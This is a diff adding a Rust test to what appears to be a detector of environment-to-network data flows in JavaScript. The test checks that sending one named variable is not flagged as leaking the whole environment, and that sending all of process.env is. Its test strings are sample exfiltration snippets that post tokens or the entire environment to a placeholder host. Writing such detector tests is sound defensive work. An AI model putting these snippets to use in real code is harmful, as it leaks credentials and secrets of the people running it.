@@ -269,6 +269,30 @@ fn what_flows_is_followed() {
     }
 }
 
+/// A function that picks what it names out of an environment that it is given.
+#[test]
+fn one_variable_of_a_given_environment_is_not_all_of_it() {
+    for code in [
+        "function s(env = process.env) { return { token: env.TOKEN, from: env.FROM }; } fetch('https://a.invalid', { body: JSON.stringify(s()) })",
+        "const s = (env) => ({ token: env.TOKEN }); fetch('https://a.invalid', { headers: s(process.env) })",
+        "class C { constructor({ token }) { this.token = token; } send() { fetch('https://a.invalid', { body: this.token }); } }
+         const s = (env = process.env) => ({ token: env.T }); new C(s()).send();",
+        "const T = [{ is: (e) => e.CI, map: (e) => ({ sha: e.SHA }) }]; const t = T.find((p) => p.is(x));
+         fetch('https://a.invalid', { body: JSON.stringify({ ...t.map(process.env) }) })",
+    ] {
+        let found = flows(code);
+        assert!(!found.iter().any(|flow| flow == "env-all->net"), "{code}\n  gives {found:?}");
+    }
+    for code in [
+        "function s(env = process.env) { return { env, from: env.FROM }; } fetch('https://a.invalid', { body: JSON.stringify(s()) })",
+        "const s = (e) => ({ ...e, at: 1 }); fetch('https://a.invalid', { body: JSON.stringify(s(process.env)) })",
+        "const s = (e) => Object.keys(e).map((k) => k + e[k]).join(); fetch('https://a.invalid', { body: s(process.env) })",
+    ] {
+        let found = flows(code);
+        assert!(found.iter().any(|flow| flow == "env-all->net"), "{code}\n  gives {found:?}");
+    }
+}
+
 #[test]
 fn what_does_not_flow_is_not_reported() {
     for code in [
